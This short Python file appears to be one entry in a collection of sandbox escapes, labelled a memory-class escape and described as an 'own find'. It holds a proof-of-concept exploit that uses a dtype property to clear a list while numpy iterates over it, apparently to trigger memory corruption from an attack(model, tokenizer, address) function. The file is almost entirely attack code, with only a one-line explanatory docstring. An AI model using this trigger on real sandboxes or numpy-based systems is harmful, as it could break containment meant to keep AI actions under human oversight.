"""Class: memory. Source: own find. Escape: numpy goes over a list of formats that one of them clears: each
is asked for its `dtype`. The list lies inside a dict."""

import numpy as np


class Format:
    @property
    def dtype(self):
        formats.clear()
        kept.append([(3, 3)] * 500)
        return np.dtype("i4")


formats = []
kept = []


def attack(model, tokenizer, address):
    for _ in range(20):
        formats[:] = [("a", Format())] + [(f"b{i}", "i4") for i in range(500)]
        try:
            np.zeros(3, dtype={"names": ["x", "y"], "formats": [formats, "i4"]})
        except TypeError:
            continue
